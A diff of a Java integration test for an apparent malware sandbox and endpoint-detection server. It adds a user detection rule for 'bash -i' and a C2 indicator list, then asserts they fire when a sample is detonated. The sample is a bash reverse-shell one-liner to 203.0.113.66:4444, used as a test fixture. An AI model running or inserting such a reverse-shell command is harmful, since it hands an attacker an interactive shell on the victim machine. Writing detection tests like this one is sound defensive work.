@@ -27,7 +27,7 @@ import static org.awaitility.Awaitility.await;
  * runs it): samples submitted over REST are detonated and recorded by that agent (no second agent),
  * a high verdict puts the hash on the fleet block list and raises an alert, a medium verdict raises
  * an alert and blocks nothing; an open incident whose alert names the high sample's hash gets the verdict as a note
- * and the block as an action. Needs root.
+ * and the block as an action; the server's user rules and imported indicators judge the detonation too. Needs root.
  */
 @Timeout(value = 15, unit = TimeUnit.MINUTES)
 class SandboxLoopTest {
@@ -40,7 +40,21 @@ class SandboxLoopTest {
             Api api = machine.api;
             String revshell = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n";
             String incident = openIncidentNaming(machine, sha256(revshell));
+            // The server's own rules and indicators judge detonations too: a user rule and an imported C2 list.
+            api.post("/api/v1/rules?name=interactive-bash.yml", """
+                    title: Interactive bash (user rule of this test)
+                    id: 5f0c8a52-2d4e-4b8c-9a51-6b7e3c1d9e01
+                    status: test
+                    level: medium
+                    logsource: {product: linux, category: process_creation}
+                    detection:
+                      sel: {CommandLine|contains: 'bash -i'}
+                      condition: sel
+                    """);
+            api.post("/api/v1/indicators?name=c2-addresses.txt", "203.0.113.66\n");
             JsonNode high = analyse(api, "revshell.sh", revshell);
+            assertThat(high.path("detonation").path("rules").toString()).as("rules that fired in the detonation")
+                    .contains("5f0c8a52-2d4e-4b8c-9a51-6b7e3c1d9e01").contains("Indicator match").contains("203.0.113.66");
             assertThat(high.path("verdict").asText()).as(high.toString()).isEqualToIgnoringCase("high");
             JsonNode detonation = high.path("detonation");
             assertThat(detonation.path("recording").asText()).startsWith("the kiroku agent already recording this machine")
